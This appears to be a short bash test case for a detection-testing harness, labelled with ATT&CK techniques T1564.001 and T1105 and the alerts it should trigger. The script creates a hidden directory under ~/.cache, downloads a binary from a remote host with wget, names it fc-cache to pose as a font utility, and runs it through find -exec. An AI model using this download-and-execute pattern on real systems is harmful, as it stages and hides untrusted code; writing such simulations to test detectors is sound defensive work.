#!/usr/bin/env bash
# tactic: defense-evasion
# technique: T1564.001 Hide Artifacts: Hidden Files and Directories; T1105 Ingress Tool Transfer
# behaviour: downloads a tool with wget into a hidden directory under ~/.cache and starts it through find -exec (indirection)
# as: user
# needs: remote
# expect: masquerade, downloaded_exec, exec_from_writable
set -u
d="$HOME/.cache/.fontconfig"; mkdir -p "$d"
wget -q -O "$d/fc-cache" "http://$SNTL_REMOTE/tool"
chmod +x "$d/fc-cache"
find "$d" -name fc-cache -exec {} \;
